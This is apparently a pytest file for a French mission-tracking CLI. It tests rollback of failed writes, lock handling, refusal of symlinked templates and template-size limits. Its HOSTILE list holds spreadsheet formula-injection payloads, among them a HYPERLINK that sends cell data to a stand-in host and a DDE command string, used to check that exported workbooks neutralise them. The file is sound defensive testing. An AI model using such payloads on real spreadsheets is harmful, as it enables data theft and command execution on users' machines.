"""Trust (issue 16): nothing lost on a failed write, no injection, bounded inputs, no crash on accepted input.

Each test reproduces a case of the hostile review through pmp's real entry
point and asserts what the user sees: the one message, the exit code, and the
files left byte-identical.
"""

from __future__ import annotations

import errno
import os

import pytest
from conftest import snapshot, spaces

J = "missions/ressourcerie-du-val/journal.yaml"


# one table of journal kinds; one parse of the journal per pmp log --------------------------------

def test_the_kinds_of_journal_entry_come_from_one_table():
    from pamplemousse.read import model, schema

    assert list(model.JOURNAL_KINDS) == ["recommendation", "indicator", "committee", "time", "situation"]
    entry = schema.mission_schemas()["journal.schema.json"]["$defs"]["JournalEntry"]
    required = [b["required"] for b in entry["oneOf"]]
    assert required == [
        ["date", "recommendation"], ["date", "indicator", "value"], ["date", "committee"],
        ["date", "time", "phase"], ["date", "situation"],
    ]
    assert model.ENTRY_FIELDS[-1] == "note" and set(model.ENTRY_FIELDS) == set(model.JournalEntry.model_fields)


def test_pmp_log_parses_the_journal_once(example_in_cwd, pmp, monkeypatch):
    import yaml

    journal = (example_in_cwd / "journal.yaml").read_text(encoding="utf-8")
    seen = []
    for name in ("compose", "load"):
        real = getattr(yaml, name)

        def spy(stream, *a, _real=real, **kw):
            seen.append(stream if isinstance(stream, str) else "")
            return _real(stream, *a, **kw)

        monkeypatch.setattr(yaml, name, spy)
    r = pmp("log", "ressourcerie-du-val", "R3", "--progress", "55", "--date", "2026-11-26")
    assert r.exit_code == 0, r.stderr
    whole = [s for s in seen if s.startswith(journal[:200])]
    assert len(whole) == 1  # the load; the append parses only the last entry and the new one
    assert len(seen) == 6, [s[:80] for s in seen]  # five files, plus that small tail


# all-or-nothing appends ----------------------------------------------------------------------------

def _short_then_full(monkeypatch):
    """os.write that writes 3 bytes, then finds the disk full (as a nearly full filesystem does)."""
    import pamplemousse.write.append as append

    calls = []

    def write(fd, data):
        calls.append(len(data))
        if len(calls) == 1:
            return os.write(fd, data[:3])
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(append.os, "write", write)
    return calls


def test_a_short_write_on_a_full_disk_is_rolled_back(example_in_cwd, pmp, monkeypatch):
    before = snapshot(example_in_cwd.parent.parent)
    calls = _short_then_full(monkeypatch)
    r = pmp("log", "ressourcerie-du-val", "R1", "--progress", "90", "--date", "2026-11-26")
    assert len(calls) == 2
    assert r.exit_code == 3
    assert spaces(r.stderr) == (
        f"pmp : {J} : l'ajout a échoué (No space left on device) ; le fichier a été remis tel qu'il était, "
        "rien n'a été modifié\n"
    )
    assert snapshot(example_in_cwd.parent.parent) == before
    assert pmp("check", "ressourcerie-du-val").exit_code == 0


def _full_filesystem(tmp_path):
    """A 1 MiB tmpfs mounted at tmp_path/full, or skip saying why it cannot be mounted."""
    import subprocess

    point = tmp_path / "full"
    point.mkdir()
    if os.geteuid() != 0:
        pytest.skip("mounting a small tmpfs needs root; the full-disk case is covered by the short-write test")
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(point)], capture_output=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace').strip()}")
    return point


def test_a_full_filesystem_leaves_the_journal_byte_identical(example, tmp_path, pmp, monkeypatch):
    import shutil
    import subprocess

    point = _full_filesystem(tmp_path)
    try:
        mission = point / "missions" / example.name
        shutil.copytree(example, mission)
        filler = point / "filler"
        fd = os.open(filler, os.O_WRONLY | os.O_CREAT)
        try:  # fill the disk: only the slack of journal.yaml's last page is left
            while True:
                os.write(fd, b"x" * 512)
        except OSError:
            pass
        finally:
            os.close(fd)
        monkeypatch.chdir(point)
        before = (mission / "journal.yaml").read_bytes()
        r = pmp("log", example.name, "R1", "--progress", "90", "--note", "x" * 6000, "--date", "2026-11-26")
        assert r.exit_code == 3, r.output
        assert "rien n'a été modifié" in r.stderr and "Traceback" not in r.output
        assert (mission / "journal.yaml").read_bytes() == before
        os.unlink(filler)
        assert pmp("check", example.name).exit_code == 0
    finally:
        monkeypatch.chdir(tmp_path)
        subprocess.run(["umount", str(point)], check=False)


def test_an_import_that_fails_while_writing_appends_none_of_its_entries(example_in_cwd, pmp, monkeypatch):
    from openpyxl import load_workbook

    assert pmp("render", "ressourcerie-du-val", "--format", "xlsx", "--as-of", "2026-11-26").exit_code == 0
    sheet = example_in_cwd / "out" / "pilotage.xlsx"
    wb = load_workbook(sheet)
    wb["Plan"]["G5"], wb["Plan"]["G7"] = "fait", "bloqué"  # R1 and R3: two entries
    wb.save(sheet)
    before = (example_in_cwd / "journal.yaml").read_bytes()
    seen = pmp("import", "ressourcerie-du-val", str(sheet), "--date", "2026-11-27")
    assert "2 entrées" in seen.stdout, seen.output
    _short_then_full(monkeypatch)
    r = pmp("import", "ressourcerie-du-val", str(sheet), "--yes", "--date", "2026-11-27")
    assert r.exit_code == 3 and "rien n'a été modifié" in r.stderr
    assert (example_in_cwd / "journal.yaml").read_bytes() == before


def test_a_lock_held_elsewhere_is_waited_for_a_while_then_named(example_in_cwd, pmp, monkeypatch):
    import fcntl
    import subprocess
    import sys

    path = example_in_cwd / "journal.yaml"
    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import fcntl,sys,time; f=open(sys.argv[1],'ab'); fcntl.flock(f, fcntl.LOCK_EX); print('ok', flush=True); "
         "time.sleep(30)", str(path)],
        stdout=subprocess.PIPE, text=True,
    )
    try:
        assert holder.stdout.readline() == "ok\n"
        monkeypatch.setenv("PMP_LOCK_TIMEOUT", "0.3")
        before = path.read_bytes()
        r = pmp("log", "ressourcerie-du-val", "R1", "--progress", "90", "--date", "2026-11-26")
        assert r.exit_code == 2
        name = os.path.basename(sys.executable)[:15]
        assert spaces(r.stderr) == (
            f"pmp : {J} est verrouillé par une autre commande (processus {holder.pid}, {name}) depuis plus de "
            "0.3 s ; attendez qu'elle se termine, puis relancez\n"
        )
        assert path.read_bytes() == before
    finally:
        holder.kill()
        holder.wait()
    assert fcntl  # the lock is released with the process
    assert pmp("log", "ressourcerie-du-val", "R1", "--progress", "90", "--date", "2026-11-26").exit_code == 0


# spreadsheet formula injection ---------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("https://e.vil/?d="&A5,"Sophie")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)"]


def _hostile_mission():
    import dataclasses

    from conftest import EXAMPLE

    from pamplemousse.read.load import load_mission

    base, _ = load_mission(EXAMPLE)
    recs = list(base.recommendations)
    ind = recs[0].indicators[0].model_copy(update={"name": HOSTILE[3], "unit": HOSTILE[4]})
    recs[0] = recs[0].model_copy(update={"title": HOSTILE[0], "owner": HOSTILE[1], "indicators": [ind]})
    journal = [
        e.model_copy(update={"note": HOSTILE[2]}) if e.recommendation == recs[0].id
        else e.model_copy(update={"committee": HOSTILE[1], "decisions": [HOSTILE[0]]}) if e.committee else e
        for e in base.journal
    ]
    meta = base.meta.model_copy(update={"client": base.meta.client.model_copy(update={"name": HOSTILE[0]})})
    return dataclasses.replace(base, recommendations=recs, journal=journal, meta=meta)


def test_no_text_of_a_mission_becomes_a_formula_in_the_workbook(tmp_path):
    import io
    import subprocess

    from openpyxl import load_workbook

    from pamplemousse.outputs.render import render_outputs

    mission = _hostile_mission()
    data = render_outputs(mission, "pilotage", "xlsx", __import__("datetime").date(2026, 11, 26))["xlsx"]
    wb = load_workbook(io.BytesIO(data))
    texts, formulas = set(), []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(cell.value)
                elif isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, (ws.title, cell.coordinate)
    assert formulas and all(f.startswith("=IF(AND(") for f in formulas)  # pmp's own « days late » only
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]} <= texts
    # and LibreOffice, opening it, shows the texts and computes nothing from them
    book = tmp_path / "plan.xlsx"
    book.write_bytes(data)
    done = subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", "csv",
         "--outdir", str(tmp_path), str(book)], capture_output=True, timeout=120,
    )
    assert done.returncode == 0, done.stderr
    csv = (tmp_path / "plan.csv").read_text(encoding="utf-8", errors="replace")
    assert 'HYPERLINK(""https://e.vil/?d=""&A5,""Sophie"")' in csv and "cmd|' /C calc'!A0" in csv


# templates: no symbolic link, compiling within the bounds ------------------------------------------

NB = "\u00a0"


def _override(root, text, name="templates/html/pilotage.html.j2"):
    (root / name).parent.mkdir(parents=True, exist_ok=True)
    (root / name).write_text(text, encoding="utf-8")


def test_a_templates_folder_that_is_a_symbolic_link_is_refused(example_in_cwd, pmp):
    root = example_in_cwd.parent.parent
    (root / "templates").symlink_to(".")  # the whole workspace as templates
    _override(root, "{% include 'missions/ressourcerie-du-val/questions.yaml' %}", "html/pilotage.html.j2")
    before = snapshot(root)
    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
    assert r.exit_code == 2
    assert r.stderr == (
        f"pmp : templates est un lien symbolique{NB}: pmp ne lit pas un dossier de modèles à travers un lien{NB}; "
        "remplacez-le par un vrai dossier\n"
    )
    assert snapshot(root) == before


def test_a_folder_of_templates_that_is_a_symbolic_link_is_refused(example_in_cwd, pmp):
    root = example_in_cwd.parent.parent
    (root / "templates").mkdir()
    _override(root, "{% include 'html/questions.yaml' %}", "elsewhere/pilotage.html.j2")
    (root / "elsewhere" / "questions.yaml").symlink_to(root / "missions" / "ressourcerie-du-val" / "questions.yaml")
    (root / "templates" / "html").symlink_to(root / "elsewhere")
    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
    assert r.exit_code == 2 and "Traceback" not in r.output
    assert "ce modèle est un lien vers un fichier hors du dossier des modèles (templates)" in r.stderr


def test_a_link_below_the_templates_folder_is_refused_even_leading_inside(example_in_cwd, pmp):
    root = example_in_cwd.parent.parent
    _override(root, "{% include 'html/parts/x.j2' %}")
    _override(root, "SECRET", "templates/md/x.j2")
    (root / "templates" / "html" / "parts").symlink_to(root / "templates" / "md")
    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
    assert r.exit_code == 2
    assert f"templates/html/parts est un lien symbolique{NB}: pmp ne lit pas de modèle à travers un lien" in r.stderr
    assert not (example_in_cwd / "out").exists()


def test_a_template_folded_while_compiling_meets_the_memory_and_time_bounds(example_in_cwd, pmp):
    import resource
    import time

    root = example_in_cwd.parent.parent
    chain = "'" + "x" * 10 + "'" + "|replace('x', 'xxxxxxxxxx')" * 12  # 10**13 characters once folded
    _override(root, "<p>\n{{ " + chain + " }}")
    start, peak = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
    assert time.monotonic() - start < 10
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 700 * 1024  # KiB
    assert r.exit_code == 2
    assert r.stderr.startswith("pmp : templates/html/pilotage.html.j2:2")
    assert "dépasse la taille permise dans un modèle" in r.stderr
    assert not (example_in_cwd / "out").exists()


# a render's set of outputs ---------------------------------------------------------------------------

def test_a_render_checks_every_target_before_replacing_any(example_in_cwd, pmp, tmp_path):
    out = example_in_cwd / "out"
    assert pmp("render", "ressourcerie-du-val", "--as-of", "2026-11-20").exit_code == 0
    (out / "pilotage.md").unlink()
    (out / "pilotage.md").symlink_to(tmp_path / "ailleurs.md")
    before = snapshot(out)
    r = pmp("render", "ressourcerie-du-val", "--as-of", "2026-11-26")
    assert r.exit_code == 3
    assert "pilotage.md" in r.stderr and "lien symbolique" in r.stderr
    assert snapshot(out) == before  # pilotage.html not replaced either
    assert not (tmp_path / "ailleurs.md").exists()
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]
